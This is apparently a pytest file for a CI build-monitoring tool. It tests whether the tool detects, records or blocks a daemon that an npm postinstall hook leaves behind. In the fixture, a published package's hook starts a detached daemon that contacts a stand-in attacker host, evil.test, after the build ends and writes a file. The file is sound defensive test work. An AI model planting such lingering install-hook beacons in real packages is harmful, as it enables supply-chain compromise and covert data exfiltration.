"""Class 5 of the evasion issue: after the build's root exits, nothing goes dark.

An npm ``postinstall`` starts a daemon (a C program: double fork, setsid, stdio to /dev/null)
that waits until npm has exited, then connects to evil.test by address, sends a request and
writes a file. Bare, it works. Under ``ciwatch run`` (``--leftovers leave``, the default) the
daemon stays traced: the record's second segment (after the ``end`` line) holds its connect
and its write, the final ``verdict.json`` judges them, and ``ciwatch check`` agrees. In block
mode the verdict is already ``fail`` (exit 3) when the build exits, because a hook left a
process running, and the daemon's later connect is refused: nothing reaches evil.test.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from ciwatch.record import read_record
from ciwatch.record.events import FileWrite, NetConnect, Refusal
from ciwatch.record.reader import Record
from ciwatch.record.vocabulary import ConnectVia
from tests.support.attacks import POLICY_FAILED, Watched, assert_found, assert_replay_agrees, findings_of, npm_project
from tests.support.cprograms import program
from tests.support.hooks import HOOK, Hooks, assert_exit
from tests.support.internet import EVIL, TestInternet

pytestmark = [pytest.mark.npm, pytest.mark.root]


@dataclass
class Stage:
    hooks: Hooks
    evil_ip: str
    package: str
    """``name@version`` of the package whose hook leaves the daemon."""

    @property
    def internet(self) -> TestInternet:
        return self.hooks.internet

    @property
    def project(self) -> Path:
        return self.hooks.root / "project"

    @property
    def loot(self) -> Path:
        """The file the daemon writes once the build is over."""
        return self.hooks.root / "after-build.txt"

    def install(
        self, *, out: str = "out", mode: str | None = None, net: str | None = None, options: tuple[str, ...] = ()
    ) -> Watched:
        """The package installed under ciwatch, in a fresh project."""
        return self.hooks.install(self.package, out=out, mode=mode, net=net, options=options)


@pytest.fixture
def stage(internet: TestInternet, hooks: Hooks, evil_ip: str, tmp_path: Path) -> Stage:
    loot = tmp_path / "after-build.txt"
    internet.serve(EVIL, "/after-build", "beacon received\n", content_type="text/plain")
    # $PPID of npm's `sh -c` is npm itself: the daemon waits for the package manager to end.
    script = f"{program('leftovers_daemon')} $PPID {evil_ip} 80 {EVIL} {loot}"
    return Stage(hooks, evil_ip, hooks.publish("after-party", script, main=True))


def _wait_for(check: object, what: str, timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while not callable(check) or not check():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.1)


def _followed(watched: Watched) -> Record:
    """The record once its second segment is closed (the daemon has exited)."""
    _wait_for(lambda: read_record(watched.out).after_build_end is not None, "the after-build-end line")
    return read_record(watched.out)


def _second_segment(record: Record) -> list[tuple[int, object]]:
    """(seq, event) of what was recorded after the end line."""
    assert record.after_build is not None and record.after_build_seq > 0
    return [(item.seq, item.event) for item in record.events if item.seq > record.after_build_seq]


def test_bare_the_daemon_acts_after_the_build(stage: Stage) -> None:
    stage.hooks.bare_install(stage.package, npm_project(stage.project))
    _wait_for(stage.loot.exists, "the daemon's file")
    _wait_for(lambda: stage.loot.read_text().endswith("\n"), "the daemon's file to be complete")
    assert stage.loot.read_text().startswith("sent; reply HTTP/1.")
    assert [r.path for r in stage.internet.requests_to(EVIL)] == ["/after-build"]


def test_audit_records_and_judges_what_the_daemon_did_after_the_build(stage: Stage) -> None:
    watched = stage.install()
    assert_exit(watched, 0)
    assert "ciwatch follows them" in watched.stderr
    record = _followed(watched)
    assert record.after_build_end is not None and record.after_build_end.clean
    # Its counters run on from the build's start, as `end`'s do.
    assert record.end is not None
    assert record.after_build_end.tracer_stops > record.end.tracer_stops
    assert record.after_build_end.tracer_reads_judged_in_loop >= record.end.tracer_reads_judged_in_loop
    later = _second_segment(record)
    connects = [e for _, e in later if isinstance(e, NetConnect) and e.address == stage.evil_ip]
    assert connects and connects[0].via is ConnectVia.DIRECT
    assert any(isinstance(e, FileWrite) and e.path == str(stage.loot) for _, e in later)
    assert stage.loot.read_text().startswith("sent;")
    # The final verdict judges the second segment: the connect is the hook's unfamiliar egress.
    verdict = watched.verdict
    assert verdict["final"] is True and verdict["verdict"] == "fail"
    assert record.after_build_end.verdict == "fail"
    leftovers = assert_found(watched, "leftover-process", stage.package, HOOK)
    assert {f["severity"] for f in leftovers} == {"high"}
    egress = assert_found(watched, "unfamiliar-egress", stage.package, HOOK)
    assert any(f["host"] == stage.evil_ip for f in egress)
    assert_replay_agrees(watched)


@pytest.mark.parametrize("net", [None, "sandbox"], ids=["redirect", "sandbox"])
def test_block_fails_at_exit_and_refuses_the_daemon_later(stage: Stage, net: str | None) -> None:
    watched = stage.install(mode="block", net=net)
    # Failed at the build's exit already: a hook left a process running.
    assert_exit(watched, POLICY_FAILED)
    assert "leftover-process" in watched.stderr
    record = _followed(watched)
    later = _second_segment(record)
    refused = [e for _, e in later if isinstance(e, NetConnect) and e.address == stage.evil_ip]
    assert refused and all(e.via is ConnectVia.REFUSED for e in refused)
    assert any(isinstance(e, Refusal) and e.target == f"{stage.evil_ip}:80" for _, e in later)
    assert any(isinstance(e, FileWrite) and e.path == str(stage.loot) for _, e in later)
    assert stage.loot.read_text() == "connect failed: Operation not permitted\n"
    assert stage.internet.requests_to(EVIL) == []
    verdict = watched.verdict
    assert verdict["final"] is True and verdict["verdict"] == "fail" and verdict["refusals"] >= 1
    assert_found(watched, "leftover-process", stage.package, HOOK)
    refusal_findings = [f for f in findings_of(watched, "unfamiliar-egress") if f["host"] == stage.evil_ip]
    assert refusal_findings and refusal_findings[0]["hook"] == HOOK
    assert refusal_findings[0]["package"] == stage.package
    assert_replay_agrees(watched)


def test_kill_and_wait_keep_everything_in_the_build_segment(stage: Stage) -> None:
    killed = stage.install(out="out-kill", options=("--leftovers", "kill"))
    assert_exit(killed, 0)
    record = read_record(killed.out)
    assert record.after_build is None and record.end is not None
    assert killed.verdict["final"] is True
    assert any(f["message"].endswith("(killed)") for f in findings_of(killed, "leftover-process"))
    assert stage.internet.requests_to(EVIL) == []
    assert not stage.loot.exists()
